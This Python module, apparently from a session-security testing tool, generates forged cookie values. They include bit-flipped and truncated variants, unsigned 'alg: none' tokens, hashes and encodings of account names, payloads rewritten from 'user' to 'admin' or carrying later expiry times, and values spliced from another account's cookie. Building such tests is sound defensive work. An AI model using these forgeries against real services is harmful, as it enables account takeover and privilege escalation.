"""Every plausible way to forge a cookie: changed, made from what anybody knows, or taken from another account. Pure.

Each forgery differs in what it says, not only in how it is written: letters are never merely put into the other case, and the last sign of
an encoding, which may hold nothing, is never all that differs.
"""

from __future__ import annotations

import binascii
import hashlib
import json
import re
from base64 import b64decode, b64encode, urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, unquote

_REGIONS = 8
_PARTS = re.compile(r"([.|:!]|--)")
_NUMBER = re.compile(r"\d{6,}")
_PRINTABLE = re.compile(r"[\x20-\x7e]{4,}")
_FLAGS = ("1", "true", "yes", "on", "ok", "trusted", "oui")
_MORE_SECONDS = 40_000_000


@dataclass(frozen=True)
class Forgery:
    """One forged value, and what was done to make it. The value stands in no report."""

    name: str
    value: str


def changed_values(value: str, other_identifier: str) -> Iterator[Forgery]:
    """The value changed in one place after the other, cut, doubled, and altered in what it says where that can be read."""
    seen = {value}
    for forgery in (*_turned(value), *_cut(value), *_altered(value, other_identifier)):
        if forgery.value not in seen:
            seen.add(forgery.value)
            yield forgery


def made_values(names: Iterable[str]) -> Iterator[Forgery]:
    """Values that anybody can make who knows what an account is called: its number with and without its key, its mail address."""
    yield from (Forgery(f"the word “{flag}”", flag) for flag in _FLAGS)
    for number, name in enumerate(dict.fromkeys(names), 1):
        octets = name.encode()
        called = f"name {number} of the account"
        yield Forgery(called, quote(name))
        yield Forgery(f"{called} in Base64", b64encode(octets).decode())
        yield Forgery(f"{called} in hexadecimal", octets.hex())
        for method in ("md5", "sha1", "sha256"):
            yield Forgery(f"the {method} of {called}", hashlib.new(method, octets, usedforsecurity=False).hexdigest())
        document = json.dumps({"user": name, "trusted": True, "exp": 9_999_999_999})
        yield Forgery(f"a document with {called}", quote(document))
        yield Forgery(f"a document with {called} in Base64", _base64(document))
        head = json.dumps({"alg": "none"})
        yield Forgery(f"a token with {called} that nobody signed", f"{_base64(head)}.{_base64(document)}.")


def others_values(value: str, theirs: str, identifier: str, other_identifier: str) -> Iterator[Forgery]:
    """What another account's cookie gives: by itself, with this account's number in it, and joined with half of this account's.

    What comes out as the own value is none, unless the other account's is the same from the beginning: then it is everybody's.
    """
    if not theirs:
        return
    yield Forgery("that of another account", theirs)
    seen = {value, theirs}
    for forgery in _joined(value, theirs, identifier, other_identifier):
        if forgery.value not in seen:
            seen.add(forgery.value)
            yield forgery


def _joined(value: str, theirs: str, identifier: str, other_identifier: str) -> Iterator[Forgery]:
    if value == theirs:
        return
    if other_identifier in theirs:
        yield Forgery("that of another account with this number", theirs.replace(other_identifier, identifier))
    for between in (".", ",", "|", ":", "-"):
        yield Forgery(f"that of another account and this number behind “{between}”", f"{theirs}{between}{identifier}")
    half = value[: len(value) // 2]
    yield Forgery("half of each", half + theirs[len(theirs) // 2 :])
    yield Forgery("that of another account and half of this one", f"{theirs}.{half}")
    mine, their_parts = _PARTS.split(value), _PARTS.split(theirs)
    if len(mine) == len(their_parts) > 1:
        for index in range(0, len(mine), 2):
            joined = [*mine[:index], their_parts[index], *mine[index + 1 :]]
            yield Forgery(f"part {index // 2 + 1} from another account", "".join(joined))


def _turned(value: str) -> Iterator[Forgery]:
    """One sign turned in each region, the last sign of all apart."""
    last = len(value) - 1
    for index in sorted({region * last // _REGIONS for region in range(_REGIONS)}):
        if (sign := _other_sign(value[index])) != value[index]:
            yield Forgery(f"sign {index + 1} turned", value[:index] + sign + value[index + 1 :])


def _other_sign(sign: str) -> str:
    """Another sign of the same kind, so far away that every encoding reads something else."""
    if sign.isdigit():
        return str((int(sign) + 5) % 10)
    for first in "Aa":
        place = ord(sign) - ord(first)
        if 0 <= place < 26:
            # In hexadecimal too: from a to f, and beyond it from there.
            return chr(ord(first) + (place + 3) % 6) if place < 6 else chr(ord(first) + (place + 13) % 26)
    return sign


def _cut(value: str) -> Iterator[Forgery]:
    half, quarter = len(value) // 2, len(value) // 4
    yield Forgery("the first half", value[:half])
    yield Forgery("the second half", value[half:])
    yield Forgery("without its last quarter", value[: len(value) - max(quarter, 2)])
    yield Forgery("without its first sign", value[1:])
    yield Forgery("doubled", value + value)
    yield Forgery("the other way round", value[::-1])
    yield Forgery("with a wildcard", f"{value[:half]}%")
    yield Forgery("every sign", "*")


def _altered(value: str, other_identifier: str) -> Iterator[Forgery]:
    """What can be read in the value, or in one of its parts, said otherwise and written as before."""
    whole = unquote(value)
    yield from (Forgery(f"the whole {name}", other) for name, other in _altered_part(whole, other_identifier))
    parts = _PARTS.split(whole)
    for index in range(0, len(parts), 2):
        for name, other in _altered_part(parts[index], other_identifier):
            yield Forgery(f"part {index // 2 + 1} {name}", "".join([*parts[:index], other, *parts[index + 1 :]]))
    if len(parts) > 1:
        yield Forgery("without its last part", "".join(parts[:-2]))
        yield Forgery("with an empty last part", "".join([*parts[:-1], ""]))


def _altered_part(part: str, other_identifier: str) -> Iterator[tuple[str, str]]:
    for text, write in _readings(part):
        for number in dict.fromkeys(_NUMBER.findall(text)):
            yield "with a later number", write(text.replace(number, str(int(number) + _MORE_SECONDS)))
            yield "with another number", write(text.replace(number, other_identifier))
        for word, other in (("false", "true"), ("true", "false"), ('"user"', '"admin"')):
            if word in text:
                yield f"with {other}", write(text.replace(word, other))


def _readings(part: str) -> Iterator[tuple[str, Any]]:
    """The part as plain text and, where it is one, as Base64: what it says, and how that is written again."""
    yield part, lambda text: quote(text, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")
    padded = part + "=" * (-len(part) % 4)
    for read, write in ((b64decode, b64encode), (urlsafe_b64decode, urlsafe_b64encode)):
        try:
            text = read(padded).decode("ascii")
        except (binascii.Error, ValueError):
            continue
        if _PRINTABLE.fullmatch(text):
            yield text, lambda text, write=write: write(text.encode()).decode().rstrip("=")


def _base64(text: str) -> str:
    return urlsafe_b64encode(text.encode()).decode().rstrip("=")
